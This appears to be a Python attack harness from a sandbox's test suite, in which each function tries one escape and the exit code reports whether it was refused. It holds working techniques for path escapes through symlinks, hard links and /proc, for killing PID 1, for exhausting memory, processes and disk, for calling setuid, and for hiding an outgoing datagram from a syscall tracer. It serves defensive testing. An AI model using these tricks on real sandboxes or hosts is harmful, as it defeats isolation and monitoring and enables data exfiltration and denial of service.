"""What a dishonest tool tries. Usage: attacks.py ATTACK ARGUMENTS. Exit code 0: it worked; 3: it was refused."""
import ctypes
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys

MIB = 1024 * 1024


def write(path):
    with open(path, "w") as file:
        file.write("written by an attack\n")


def read(path):
    with open(path, "rb") as file:
        return len(file.read()) > 0


def read_environment(path, secret):
    with open(path, "rb") as file:
        return secret.encode() in file.read()


def own_environment(secret):
    return any(secret in value for value in os.environ.values())


def descriptors():
    """Anything open beyond the three streams; what lists the folder is closed by then."""
    found = [number for number in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{number}")]
    return any(int(number) > 2 for number in found)


def connect(host, port):
    with socket.create_connection((host, int(port)), timeout=3) as connection:
        connection.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return len(connection.recv(16)) > 0


def send_datagram(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.settimeout(1)
        channel.sendto(b"secret", (host, int(port)))
        return len(channel.recv(16)) > 0


def look_up(name):
    return len(socket.getaddrinfo(name, 443)) > 0


def listen(port):
    with socket.socket() as server:
        if port != "unbound":
            server.bind(("0.0.0.0", int(port)))
        server.listen()
    return True


def connect_unix(name):
    """An abstract name begins with an @ here."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(3)
        connection.connect("\0" + name[1:] if name.startswith("@") else name)
        return len(connection.recv(16)) > 0


def run(*words):
    return subprocess.run(words, stdout=subprocess.DEVNULL, check=False).returncode == 0


def run_copy(program, copy):
    shutil.copy(program, copy)
    return run(copy)


def take_memory(megabytes):
    return len(bytearray(os.urandom(1)) * (int(megabytes) * MIB)) > 0


def take_memory_in_children(children, megabytes):
    """Each child stays small; together they do not. Counts those that lived."""
    pids = []
    for _ in range(int(children)):
        pid = os.fork()
        if pid == 0:
            block = bytearray(b"x") * (int(megabytes) * MIB)
            signal.alarm(1)
            signal.pause()
            os._exit(len(block) == 0)
        pids.append(pid)
    ends = [os.waitpid(pid, 0)[1] for pid in pids]
    return all(os.WTERMSIG(end) == signal.SIGALRM for end in ends)


def fill(path, megabytes):
    with open(path, "wb", buffering=0) as file:
        for _ in range(int(megabytes)):
            file.write(b"x" * MIB)
    os.remove(path)
    return True


def fill_with_files(folder, files, megabytes):
    for index in range(int(files)):
        with open(f"{folder}/{index}", "wb", buffering=0) as file:
            for _ in range(int(megabytes)):
                file.write(b"x" * MIB)
    return True


def fork(children):
    """As many children at a time."""
    pids = []
    try:
        for _ in range(int(children)):
            pid = os.fork()
            if pid == 0:
                signal.pause()
            pids.append(pid)
    finally:
        for pid in pids:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
    return True


def kill(pid):
    os.kill(int(pid), signal.SIGKILL)
    return True


def kill_everything():
    """All that can be signalled, the sandbox's first process among them."""
    os.kill(1, signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    return True


def raise_limit(number):
    """RLIMIT_* by its number, to no limit at all."""
    import resource

    resource.setrlimit(int(number), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    return True


def take_timers(count):
    """Each keeps one of the signals that its user may have waiting."""
    library = ctypes.CDLL(None)
    for _ in range(int(count)):
        if library.timer_create(1, None, ctypes.byref(ctypes.c_void_p())) != 0:
            return False
    return True


def take_queues(count):
    """POSIX message queues of the usual size, held by their descriptors."""
    library = ctypes.CDLL(None)
    for number in range(int(count)):
        name = f"/attack-{os.getpid()}-{number}".encode()
        if library.mq_open(name, os.O_CREAT | os.O_RDWR, 0o600, None) < 0:
            return False
        library.mq_unlink(name)
    return True


def become(uid):
    return ctypes.CDLL(None).setuid(int(uid)) == 0


def make_by_link(folder, scratch):
    os.symlink(folder, f"{scratch}/link")
    os.mkdir(f"{scratch}/link/made")
    return os.path.isdir(f"{folder}/made")


def make_by_root(folder, _scratch):
    os.mkdir(f"/proc/self/root{folder}/made")
    return os.path.isdir(f"{folder}/made")


def make_by_descriptor(folder, _scratch):
    descriptor = os.open(folder, os.O_PATH)
    os.mkdir(f"/proc/self/fd/{descriptor}/made")
    return os.path.isdir(f"{folder}/made")


def make_in_shared_folder(folder, scratch):
    """A child that shares the working folder moves it."""
    library = ctypes.CDLL(None)
    os.chdir(scratch)
    clone, clone_fs = 56, 0x200
    child = library.syscall(clone, clone_fs | signal.SIGCHLD, 0, 0, 0, 0)
    if child == 0:
        library.chdir(folder.encode())
        library._exit(0)
    os.waitpid(child, 0)
    os.mkdir("made")
    return os.path.isdir(f"{folder}/made")


def read_by_link(path, scratch):
    os.symlink(os.path.dirname(path), f"{scratch}/link")
    return read(f"{scratch}/link/{os.path.basename(path)}")


def read_by_root(path, _scratch):
    return read(f"/proc/self/root{path}")


def read_by_hard_link(path, scratch):
    os.link(path, f"{scratch}/link")
    return read(f"{scratch}/link")


def read_in_its_folder(path, _scratch):
    os.chdir(os.path.dirname(path))
    return read(os.path.basename(path))


def read_above_link(path, scratch):
    """By its words alone the path stays in the folder of the link."""
    folder, name = os.path.split(path)
    os.mkdir(f"{scratch}/below")
    os.symlink(f"{scratch}/below", f"{scratch}/link")
    up = "/".join(".." for _ in f"{scratch}/below".split("/")[1:])
    return read(f"{scratch}/link/{up}{folder}/{name}")


def read_unlooked_at(path, _scratch):
    """Whoever forbids to look into its process hides what its descriptors stand for."""
    pr_set_dumpable = 4
    ctypes.CDLL(None).prctl(pr_set_dumpable, 0, 0, 0, 0)
    folder = os.open(os.path.dirname(path), os.O_RDONLY)
    os.close(os.open(os.path.basename(path), os.O_RDONLY, dir_fd=folder))
    return True


def read_below_own_root(path, _scratch):
    """openat2 takes the folder it starts from for the root."""
    folder = os.open(os.path.dirname(path), os.O_PATH)
    openat2, resolve_in_root = 437, 0x10
    how = ctypes.create_string_buffer(struct.pack("<QQQ", os.O_RDONLY, 0, resolve_in_root), 24)
    name = f"/../../{os.path.basename(path)}".encode()
    return ctypes.CDLL(None).syscall(openat2, folder, name, how, 24) >= 0


def run_beside_link(program, scratch):
    """By its words alone what is run is a file of the tool."""
    os.mkdir(f"{scratch}/tool")
    with open(program, "rb") as source, open(f"{scratch}/tool/copy", "wb") as copy:
        copy.write(source.read())
        os.fchmod(copy.fileno(), 0o755)
    depth = len(scratch.split("/")) - 1
    below = scratch + "/1" * depth
    for end in range(1, depth + 1):
        os.mkdir(scratch + "/1" * end)
    os.symlink(below, f"{scratch}/link")
    return run(f"{scratch}/link/" + "../" * depth + "tool/copy")


def inet_address(family, host, port):
    return struct.pack("<H", family) + struct.pack(">H", int(port)) + socket.inet_aton(host) + bytes(8)


def send_to_no_family(host, port):
    """The kernel sends what is for AF_UNSPEC as if it said AF_INET."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.settimeout(1)
        address = inet_address(socket.AF_UNSPEC, host, port)
        ctypes.CDLL(None).sendto(channel.fileno(), b"secret", 6, 0, address, len(address))
        return len(channel.recv(16)) > 0


def send_behind_many(host, port):
    """The last of more messages than a tracer shows of one call."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.settimeout(1)
        text = ctypes.create_string_buffer(b"secret")
        vector = (ctypes.c_ulong * 2)(ctypes.addressof(text), 6)
        harmless = ctypes.create_string_buffer(inet_address(socket.AF_INET, "127.0.0.1", 9))
        wanted = ctypes.create_string_buffer(inet_address(socket.AF_INET, host, port))
        names = [harmless] * 299 + [wanted]
        headers = [
            struct.pack("<QI4xQQQQI4xI4x", ctypes.addressof(name), 16, ctypes.addressof(vector), 1, 0, 0, 0, 0)
            for name in names
        ]
        ctypes.CDLL(None).sendmmsg(channel.fileno(), b"".join(headers), len(headers), 0)
        return len(channel.recv(16)) > 0


def main(name, *arguments):
    try:
        return 0 if globals()[name](*arguments) is not False else 3
    except (OSError, MemoryError, ValueError) as error:
        print(error, file=sys.stderr)
        return 3


sys.exit(main(*sys.argv[1:]))
